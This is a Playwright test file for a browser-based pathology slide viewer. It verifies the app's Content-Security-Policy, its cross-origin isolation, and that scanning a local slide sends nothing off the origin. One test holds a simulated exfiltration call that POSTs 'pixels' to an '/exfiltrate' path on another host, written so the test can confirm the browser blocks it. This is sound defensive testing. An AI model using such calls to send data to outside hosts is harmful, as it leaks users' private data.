import { expect, test } from '@playwright/test';
import { expectReady, gotoApp, hasShared, openFile, shared, SKIP_SHARED } from './helpers.ts';

test('the app is served with a strict Content-Security-Policy and cross-origin isolation', async ({ page }) => {
  const response = await page.goto('/');
  const headers = response!.headers();
  const csp = headers['content-security-policy'] ?? '';
  const directive = (name: string) => csp.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `)) ?? '';
  expect(directive('script-src')).toBe("script-src 'self' 'wasm-unsafe-eval'");
  expect(csp).not.toContain("'unsafe-eval'");
  expect(directive('connect-src')).toBe("connect-src 'self'");
  expect(directive('default-src')).toBe("default-src 'self'");
  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
  expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
  expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
  // The policy is enforced: a request to another origin is refused by the browser itself.
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'pixels' });
      return 'sent';
    } catch (err) {
      return String(err);
    }
  });
  expect(blocked).not.toBe('sent');
});

test.describe('privacy', () => {
  test.skip(!hasShared, SKIP_SHARED);

  test('opening, viewing and scanning a local slide sends nothing off the origin and violates no policy', async ({ page, baseURL }) => {
    const origin = new URL(baseURL!).origin;
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    page.on('websocket', (ws) => requests.push(ws.url()));
    await page.addInitScript(() => {
      (window as unknown as { __violations: string[] }).__violations = [];
      document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { __violations: string[] }).__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    });
    await gotoApp(page);
    await openFile(page, shared('slides/TCGA-CR-7395-jp2k.svs'));
    await expectReady(page);
    await page.getByTestId('scan-start').click();
    await expect(page.getByTestId('scan-progress')).toHaveAttribute('data-running', 'false', { timeout: 180_000 });
    expect(Number(await page.getByTestId('viewer').getAttribute('data-scored-cells'))).toBeGreaterThan(100);
    await page.mouse.move(400, 400);
    await page.mouse.wheel(0, -400);
    await page.waitForTimeout(1000);

    const offOrigin = requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('blob:') && !u.startsWith('data:'));
    expect(offOrigin).toEqual([]);
    expect(requests.length).toBeGreaterThan(5);
    // The slide itself was never fetched: it is read from the local file in the workers.
    expect(requests.some((u) => u.includes('TCGA-CR-7395'))).toBe(false);
    expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
  });
});
